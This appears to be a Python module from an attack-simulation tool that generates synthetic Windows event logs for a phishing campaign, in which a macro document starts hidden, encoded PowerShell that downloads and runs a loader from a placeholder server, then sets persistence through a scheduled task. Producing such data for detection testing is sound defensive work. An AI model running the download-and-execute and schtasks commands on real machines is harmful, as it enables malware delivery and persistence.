"""A loader that comes with a mail: a document starts PowerShell, which fetches a program, which makes itself at home."""

from collections.abc import Iterator
from datetime import datetime, timedelta
from random import Random

from schemas.detection import Entity
from tocsin.simulation import people
from tocsin.simulation.campaigns.campaign import HOSTERS, Campaign, Server, Setting, Strike
from tocsin.simulation.clock import after
from tocsin.simulation.days import internet
from tocsin.simulation.encoding import encoded
from tocsin.simulation.happenings import Happening
from tocsin.simulation.places import WORKSTATIONS, Place
from tocsin.simulation.programs import EXPLORER, OFFICE, POWERSHELL, SCHTASKS, Program
from tocsin.simulation.windows.events import session
from tocsin.simulation.windows.processes import started, wrote
from tocsin.simulation.windows.services import scheduled

NAME = "hameconnage-chargeur"
SITES = 2
BETWEEN = (1200, 4200)
"""Seconds from one establishment to the next."""
ROOM = timedelta(hours=5)
HOURS = (8.5, 14.0)
LURES = ("Facture", "Relance", "Convocation", "Resultats", "Bon_de_commande")


def campaign(setting: Setting, first: Place | None = None, begin: datetime | None = None) -> Campaign:
    """Two establishments of two trust domains, in working hours; ``first`` and ``begin`` when another campaign decides them."""
    rng = setting.rng
    server = setting.server(0, "livraison")
    begin = begin or setting.hour(*HOURS, ROOM)
    strikes = []
    for place in setting.pick(SITES, first=first):
        victims = rng.sample(WORKSTATIONS, rng.choice((1, 2)))
        content = f"loader {setting.seed} {server.domain}"
        happenings = [
            happening
            for machine in victims
            for happening in _opens_the_document(rng, place, machine.name, after(rng, begin, 0, 900), server, content)
        ]
        shown = (Entity(kind="hash", value=_loader("x", content).sha256), *server.indicators)
        strikes.append(Strike(place, tuple(happenings), shown))
        begin = after(rng, begin, *BETWEEN)
    return Campaign(NAME, tuple(strikes))


def _loader(user: str, content: str) -> Program:
    """The same file in everybody's own folder."""
    return Program(f"C:\\Users\\{user}\\AppData\\Local\\Temp\\lecteur.exe", "-", "-", "-", "-", "-", content)


def _opens_the_document(
    rng: Random, place: Place, name: str, moment: datetime, server: Server, content: str
) -> Iterator[Happening]:
    machine = next(machine for machine in WORKSTATIONS if machine.name == name)
    who = session(rng, place, machine, rng.choice(people.staff(place.finess)))
    document = f"C:\\Users\\{who.user}\\Downloads\\{rng.choice(LURES)}_{rng.randrange(10**5):05}.docm"
    loader = _loader(who.user, content)
    yield from started(rng, moment, who, OFFICE, f'"{OFFICE.image}" /n "{document}"', EXPLORER)
    moment = after(rng, moment, 5, 30)
    host = f"fichiers.{server.domain}"
    script = encoded(
        f"(New-Object Net.WebClient).DownloadFile('https://{host}/lecteur','{loader.image}');Start-Process '{loader.image}'"
    )
    yield from started(rng, moment, who, POWERSHELL, f"powershell.exe -NoP -NonI -W Hidden -Enc {script}", OFFICE)
    moment, country = after(rng, moment, 1, 4), rng.choice(HOSTERS)
    yield from internet.seen_by_sysmon(rng, moment, who, POWERSHELL, host, server.ip)
    yield from internet.outward(rng, moment, machine, host, server.ip, country=country)
    moment = after(rng, moment, 2, 8)
    yield wrote(rng, moment, who, POWERSHELL, loader.image)
    moment = after(rng, moment, 1, 3)
    yield from started(rng, moment, who, loader, f'"{loader.image}"', POWERSHELL)
    moment = after(rng, moment, 5, 20)
    command = f'schtasks.exe /create /tn "LecteurDocuments" /tr "{loader.image}" /sc minute /mo 30 /f'
    yield from started(rng, moment, who, SCHTASKS, command, loader)
    yield scheduled(rng, after(rng, moment, 0.1, 0.5), who, "LecteurDocuments", loader.image)
    for _ in range(rng.randrange(3, 6)):
        moment = after(rng, moment, 300, 900)
        yield from internet.seen_by_sysmon(rng, moment, who, loader, host, server.ip)
        yield from internet.outward(rng, moment, machine, host, server.ip, country=country)
